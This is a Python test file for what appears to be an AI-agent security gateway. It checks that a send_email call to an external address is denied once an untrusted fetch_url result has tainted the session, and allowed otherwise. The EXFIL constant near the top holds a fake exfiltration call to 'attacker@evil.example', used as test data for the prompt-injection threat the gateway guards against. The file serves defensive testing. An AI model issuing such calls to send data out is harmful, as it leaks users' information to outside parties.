"""A/B taint sessions: the same proposed egress call, with and without an untrusted result.

The policy allows ``send_email`` and ``fetch_url``. In session A the transcript carries a
benign-looking ``fetch_url`` result (untrusted: it raises the trace's taint); in session B
it does not. The upstream proposes the byte-identical ``send_email`` to an external
address in both. Only the taint differs, and only the survivor count differs.
"""

from __future__ import annotations

import uuid
from typing import Any

import pytest

from .clients import anthropic_client, openai_client
from .conftest import Gateway
from .scripted_upstream import Script, ScriptedUpstream

EXFIL = ("send_email", {"to": "attacker@evil.example", "body": "the report"})
RESULT_TEXT = "Quarterly numbers: revenue 12, costs 9."  # benign: admitted, but untrusted


def _openai_messages(tainted: bool) -> list[dict[str, Any]]:
    msgs: list[dict[str, Any]] = [{"role": "user", "content": "summarise the page and mail it"}]
    if tainted:
        msgs += [
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "c1",
                        "type": "function",
                        "function": {
                            "name": "fetch_url",
                            "arguments": '{"url":"https://example.com"}',
                        },
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "c1", "content": RESULT_TEXT},
        ]
    return msgs


def _anthropic_messages(tainted: bool) -> list[dict[str, Any]]:
    msgs: list[dict[str, Any]] = [{"role": "user", "content": "summarise the page and mail it"}]
    if tainted:
        msgs += [
            {
                "role": "assistant",
                "content": [
                    {
                        "type": "tool_use",
                        "id": "t1",
                        "name": "fetch_url",
                        "input": {"url": "https://example.com"},
                    }
                ],
            },
            {
                "role": "user",
                "content": [{"type": "tool_result", "tool_use_id": "t1", "content": RESULT_TEXT}],
            },
        ]
    return msgs


def _run_openai(gw: Gateway, trace: str, tainted: bool, stream: bool) -> tuple[int, dict[str, Any]]:
    c = openai_client(gw.url)
    kw: dict[str, Any] = {
        "model": "m",
        "messages": _openai_messages(tainted),
        "extra_headers": {"X-Trace-Id": trace},
    }
    if not stream:
        resp = c.chat.completions.create(**kw)
        return len(resp.choices[0].message.tool_calls or []), (resp.model_extra or {})["fak"]
    survivors: set[int] = set()
    fak: dict[str, Any] = {}
    for chunk in c.chat.completions.create(**kw, stream=True):
        fak = (chunk.model_extra or {}).get("fak", fak)
        for ch in chunk.choices:
            survivors.update(tc.index for tc in ch.delta.tool_calls or [])
    return len(survivors), fak


def _run_anthropic(
    gw: Gateway, trace: str, tainted: bool, stream: bool
) -> tuple[int, dict[str, Any]]:
    c = anthropic_client(gw.url)
    kw: dict[str, Any] = {
        "model": "m",
        "max_tokens": 32,
        "messages": _anthropic_messages(tainted),
        "extra_headers": {"X-Trace-Id": trace},
    }
    if not stream:
        msg = c.messages.create(**kw)
        return sum(b.type == "tool_use" for b in msg.content), (msg.model_extra or {})["fak"]
    n, fak = 0, {}
    for ev in c.messages.create(**kw, stream=True):
        if ev.type == "content_block_start" and ev.content_block.type == "tool_use":
            n += 1
        if ev.type == "message_delta":
            fak = (ev.model_extra or {})["fak"]
    return n, fak


@pytest.mark.parametrize("stream", [False, True], ids=["buffered", "stream"])
@pytest.mark.parametrize("wire", ["openai", "anthropic"])
def test_untrusted_result_gates_the_identical_egress_call(
    gateway: Gateway, upstream: ScriptedUpstream, wire: str, stream: bool
) -> None:
    run = _run_openai if wire == "openai" else _run_anthropic
    kernel = gateway.state.kernel
    outcomes = {}
    for label, tainted in (("A", True), ("B", False)):
        upstream.reset(Script(calls=[EXFIL]))
        trace = f"ab-{wire}-{stream}-{label}-{uuid.uuid4().hex[:8]}"
        outcomes[label] = (*run(gateway, trace, tainted, stream), kernel.taint(trace).label)
        assert len(upstream.requests[-1].json()["messages"]) == (3 if tainted else 1)
    (n_a, fak_a, taint_a), (n_b, fak_b, taint_b) = outcomes["A"], outcomes["B"]
    # Only the taint differs ...
    assert taint_a == "tainted"
    assert taint_b == "trusted"
    assert fak_a["adjudications"][0]["args_digest"] == fak_b["adjudications"][0]["args_digest"]
    # ... and only the survivor count differs.
    assert (n_a, n_b) == (0, 1)
    va, vb = fak_a["adjudications"][0]["verdict"], fak_b["adjudications"][0]["verdict"]
    assert (va["kind"], va.get("reason"), va.get("disposition")) == (
        "DENY",
        "TRUST_VIOLATION",
        "ESCALATE",
    )
    assert vb["kind"] == "ALLOW"
    # The benign result itself was admitted unchanged (not quarantined): taint, not content.
    assert [a["rewritten"] for a in fak_a["result_admissions"]] == [False]
    assert fak_b["result_admissions"] == []


def test_taint_persists_on_the_trace_across_turns(
    gateway: Gateway, upstream: ScriptedUpstream
) -> None:
    """Turn 1 brings the untrusted result; turn 2 (no result in it) is still gated."""
    trace = "ab-persist-" + uuid.uuid4().hex[:8]
    upstream.reset(Script(text="noted"))
    _run_openai(gateway, trace, True, False)
    upstream.reset(Script(calls=[EXFIL]))
    n, fak = _run_openai(gateway, trace, False, False)
    assert n == 0
    assert fak["adjudications"][0]["verdict"]["reason"] == "TRUST_VIOLATION"
    gateway.state.kernel.reset_trace(trace)
    upstream.reset(Script(calls=[EXFIL]))
    n, _ = _run_openai(gateway, trace, False, False)
    assert n == 1  # the same call, allowed again after an explicit reset
